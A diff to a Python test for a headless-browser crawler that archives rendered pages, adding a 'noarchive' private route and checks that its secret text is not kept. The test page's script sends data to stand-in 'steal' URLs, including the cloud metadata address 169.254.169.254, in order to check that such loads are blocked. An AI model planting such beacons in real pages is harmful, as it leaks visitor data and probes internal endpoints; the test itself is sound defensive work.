@@ -20,7 +20,7 @@ SHELL = """<!DOCTYPE html><html lang="en"><head><title>Hiring nurses in Ghent</t
 <script>
 fetch("/data.json").then(answer => answer.json()).then(data => {
   document.getElementById("root").innerHTML = "<main><h1>" + data.title + "</h1><p>" + data.text + "</p>" +
-    '<a href="/second">Second</a><a href="/jump">Jump</a><a href="/away">Away</a></main>';
+    '<a href="/second">Second</a><a href="/private">P</a><a href="/jump">Jump</a><a href="/away">Away</a></main>';
 });
 new Image().src = "http://169.254.169.254/steal?" + document.title;
 for (const place of ["http://HOST/steal", "http://canary.test:PORT/steal", "/hop"]) fetch(place).catch(() => {});
@@ -42,6 +42,7 @@ def app(canary: str) -> dict[str, Answer]:
         "/": shell,
         "/second": shell,
         "/data.json": (200, {"Content-Type": "application/json"}, DATA),
+        "/private": html(shell[2].replace(b"<body>", b"<body><p>SECRET</p>"), X_Robots_Tag="noarchive"),
         "/hop": (302, away, b""),
         "/jump": (302, away, b""),
         "/away": (302, {"Location": "http://elsewhere.test:PORT/"}, b""),
@@ -64,6 +65,7 @@ def test_the_document_is_rendered_and_kept_and_nothing_forbidden_is_loaded(tmp_p
         assert agents == {"guidepost"}, "the browser says who calls as every request does"
     became = {url.rpartition("/")[2]: what for url, what in rows(data, "SELECT url, outcome FROM frontier")}
     assert {became[path] for path in ("", "second")} == {"stored"}
+    assert became["private"] == "noarchive"
     assert became["away"] == "off_site"
     assert became["jump"] != "stored"
     pages = [entry.page for entry in Archive(data / "archive").entries() if entry.page]
@@ -72,6 +74,7 @@ def test_the_document_is_rendered_and_kept_and_nothing_forbidden_is_loaded(tmp_p
     assert all(page.headers["x-guidepost-rendered"] == "chromium" for page in pages)
     records = b"".join(gzip.decompress(path.read_bytes()) for path in (data / "archive").iterdir())
     assert records.count(b'<div id="root"></div>') >= 2, "what the server itself sent is kept as well"
+    assert b"SECRET" not in records
 
 
 @pytest.mark.parametrize(
